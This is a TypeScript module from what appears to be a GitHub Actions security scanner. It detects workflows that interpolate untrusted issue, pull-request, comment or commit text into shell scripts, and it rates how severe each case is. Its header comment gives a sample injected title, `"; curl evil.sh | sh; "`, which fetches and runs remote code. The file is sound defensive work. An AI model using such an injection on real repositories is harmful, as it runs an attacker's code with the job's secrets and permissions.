// Text someone outside the team wrote, pasted into a shell script by `${{ }}` before the shell
// runs: a title such as `"; curl evil.sh | sh; "` becomes a command. GitHub's own hardening guide
// lists these contexts as attacker-controlled and recommends passing them through env: instead.
// https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
import type { Severity } from '../types.js';

const prEvents = ['pull_request', 'pull_request_target', 'pull_request_review', 'pull_request_review_comment'];

/** Event fields whoever opened the issue, pull request, comment, review or branch wrote, and the events that carry them. */
const authored: { field: RegExp; events: string[] }[] = [
  { field: /github\.event\.issue\.(title|body)\b/, events: ['issues', 'issue_comment'] },
  { field: /github\.event\.pull_request\.(title|body|head\.ref|head\.label)\b/, events: prEvents },
  { field: /github\.event\.discussion\.(title|body)\b/, events: ['discussion', 'discussion_comment'] },
  { field: /github\.event\.comment\.body\b/, events: ['issue_comment', 'pull_request_review_comment', 'discussion_comment', 'commit_comment'] },
  { field: /github\.event\.review\.body\b/, events: ['pull_request_review'] },
  { field: /github\.event\.head_commit\.(message|author\.(name|email))\b/, events: ['push'] },
  { field: /github\.event\.commits\[[^\]]*\]\.(message|author\.(name|email))\b/, events: ['push'] },
  { field: /github\.event\.workflow_run\.(head_branch|head_commit\.(message|author\.(name|email)))\b/, events: ['workflow_run'] },
  { field: /github\.event\.pages\[[^\]]*\]\.page_name\b/, events: ['gollum'] },
  { field: /github\.head_ref\b/, events: prEvents },
];

/**
 * The untrusted expressions `${{ }}` writes into a script, each once, in order: only those some
 * event of the workflow fills (on workflow_dispatch, github.event.pull_request is empty).
 */
export function injectedFields(script: string, events: readonly string[]): string[] {
  const found: string[] = [];
  for (const m of script.matchAll(/\$\{\{([\s\S]*?)\}\}/g)) {
    for (const { field, events: carriers } of authored) {
      const hit = field.exec(m[1]!);
      if (hit && carriers.some((e) => events.includes(e)) && !found.includes(hit[0])) found.push(hit[0]);
    }
  }
  return found;
}

/**
 * How grave: pasted into the shell, the text runs with whatever the job holds, so as grave as an
 * agent open to anyone with the same reach. Behind a check of who asked, the person who started it
 * is on the team, but an issue's or pull request's own text may still be an outsider's: a level
 * lower; a comment or review body the member wrote, lower still.
 */
export function injectionSeverity(open: Severity, gated: boolean, fields: string[]): Severity {
  if (!gated) return open;
  const ownText = fields.every((f) => /\.(comment|review|review_comment)\.body$/.test(f));
  if (ownText) return 'low';
  return open === 'high' ? 'medium' : 'low';
}
